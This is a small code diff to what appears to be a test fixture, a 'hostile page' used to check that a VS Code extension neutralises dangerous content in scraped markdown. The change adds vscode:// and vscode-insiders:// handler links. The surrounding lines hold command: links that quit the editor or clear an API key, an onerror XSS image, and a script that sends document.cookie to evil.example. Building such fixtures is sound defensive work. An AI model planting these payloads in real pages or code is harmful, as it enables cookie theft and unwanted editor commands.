@@ -94,6 +94,8 @@ const HOSTILE_PAGE = [
   '',
   'Run [this harmless link](command:workbench.action.quit) or [that one](command:firecrawl.clearApiKey).',
   '',
+  'Or hand [this address](vscode://firecrawl-community.firecrawl-vscode/track?id=1) to an extension, or <vscode-insiders://some.extension/do>.',
+  '',
   '<img src="x" onerror="alert(1)"><b>raw html</b> $(alert) icon syntax',
   '',
   '<script>fetch("https://evil.example/steal?k=" + document.cookie)</script>',
